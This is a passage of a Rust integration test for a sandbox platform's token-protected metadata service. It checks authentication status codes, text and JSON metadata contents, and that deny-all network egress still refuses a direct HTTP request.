    let leap0 = format!("{imds}/latest/meta-data/leap0");
    assert_eq!(status(a.clone(), leap0.clone()).await, "401");
    assert_eq!(status(a.clone(), format!("-H 'X-metadata-token: nope' {leap0}")).await, "401");
    assert_eq!(status(b.clone(), format!("-H 'X-metadata-token: {token}' {leap0}")).await, "401");
    assert_eq!(status(a.clone(), format!("-X PUT {imds}/latest/api/token")).await, "400");
    let ttl = |t: &str| format!("-X PUT -H 'X-metadata-token-ttl-seconds: {t}' {imds}/latest/api/token");
    assert_eq!(status(a.clone(), ttl("21601")).await, "400");
    assert_eq!(status(a.clone(), ttl("0")).await, "400");
    assert_eq!(status(a.clone(), format!("{imds}/latest/api/token")).await, "405");
    assert_eq!(status(a.clone(), format!("-H 'X-metadata-token: {token}' {leap0}/nothing")).await, "404");
    assert_eq!(
        status(b.clone(), format!("-H 'X-metadata-token: {}' {leap0}", token_of(b.clone()).await)).await,
        "200"
    );

    // The IMDS text form, then JSON.
    let get = |path: &str, json: bool| {
        let accept = if json { "-H 'Accept: application/json'" } else { "" };
        let args = format!("-f -H 'X-metadata-token: {token}' {accept} {leap0}{path}");
        let (api, a) = (&api, a.clone());
        async move {
            let (code, out) = curl(api, &a, &args).await;
            assert_eq!(code, 0, "{out}");
            out
        }
    };
    assert_eq!(get("", false).await, "exec/\nmounts/\nnetwork/\nsandbox/\nschema_version\ntelemetry/");
    assert_eq!(get("/exec", false).await, "command\nenv/\nuser\nworkdir");
    assert_eq!(get("/sandbox/id", false).await, a);
    assert_eq!(get("/exec/env/PORT", false).await, "3000");
    let doc = json_of(&get("", true).await);
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["sandbox"], json!({"id": a}));
    assert_eq!(doc["exec"]["env"]["PORT"], "3000");
    assert_eq!(
        (doc["exec"]["user"].as_str(), doc["exec"]["workdir"].as_str()),
        (Some("user"), Some("/home/user"))
    );
    assert_eq!(doc["network"]["dns_resolvers"], json!(["10.250.0.1"]));
    assert_eq!(doc["mounts"], json!([]));
    let (_, guest_ca) = sh(&api, &a, "cat /usr/local/share/ca-certificates/cove-egress.crt").await;
    assert_eq!(doc["network"]["ca_cert_pem"].as_str().map(str::trim), Some(guest_ca.trim()));
    assert_eq!(json_of(&get("/sandbox", true).await), json!({"id": a}));
    assert_eq!(json_of(&get("/mounts", true).await), json!([]));

    // Deny-all still holds for everything else.
    assert_refused("http by IP", &curl(&api, &a, &format!("http://{ALLOWED_IP}/")).await);
}
